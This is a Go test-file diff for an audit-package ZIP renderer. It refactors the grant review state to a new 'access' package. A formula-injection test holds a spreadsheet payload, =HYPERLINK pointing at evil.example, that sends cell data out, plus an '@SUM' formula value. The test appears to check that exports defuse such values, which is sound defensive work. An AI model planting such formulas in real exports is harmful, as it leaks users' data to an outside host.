@@ -1,6 +1,7 @@
 package render
 
 import (
+	"github.com/opstap/opstap/internal/access"
 	"bytes"
 	"encoding/csv"
 	"encoding/json"
@@ -22,7 +23,7 @@ func TestAuditPackageZip_003bewerkersArt3(t *testing.T) {
 	p := &store.AuditPackage{GeneratedAt: at, Commissioner: store.Organisation{ID: "o1", Name: "Gemeente Almere"},
 		CandidateIDs: []string{"c1", "c2"},
 		AccessLog:    []audit.Entry{{Seq: 7, At: at, ActorUserID: "u1", Event: audit.EventRead, CandidateID: "c1", Category: "basic", Outcome: audit.OutcomeAllowed}},
-		Grants:       []store.ReviewGrant{{Grant: opstap.Grant{ID: "g1", UserID: "u1", Role: opstap.RoleCoach, Access: opstap.Write, GrantedAt: at, ReviewedAt: at}, State: store.ReviewOK}},
+		Grants:       []store.ReviewGrant{{Grant: opstap.Grant{ID: "g1", UserID: "u1", Role: opstap.RoleCoach, Access: opstap.Write, GrantedAt: at, ReviewedAt: at}, State: access.ReviewOK}},
 		Reviews:      []store.GrantReview{{GrantID: "g1", Outcome: store.ReviewReattested, ByUserID: "u2", At: at}},
 		Breaches:     []store.BreachDigest{{ID: "b1", DiscoveredAt: at, Deadline: at.Add(72 * time.Hour), Status: privacy.BreachConfirmed, Categories: []opstap.Category{"basic", "bsn"}, Candidates: 1}},
 	}
@@ -72,7 +73,7 @@ func TestAuditPackageZip_formulaInjection(t *testing.T) {
 	evil := `=HYPERLINK("http://evil.example/?"&A1,"klik")`
 	p := &store.AuditPackage{GeneratedAt: at,
 		Grants: []store.ReviewGrant{{Grant: opstap.Grant{ID: "g1", UserID: "u1", Role: opstap.RoleCoach, Access: opstap.Write, GrantedAt: at, ReviewedAt: at},
-			UserName: evil, OrgName: "@SUM(1+1)", State: store.ReviewOK}}}
+			UserName: evil, OrgName: "@SUM(1+1)", State: access.ReviewOK}}}
 	var buf bytes.Buffer
 	if err := AuditPackageZip(&buf, p); err != nil {
 		t.Fatal(err)
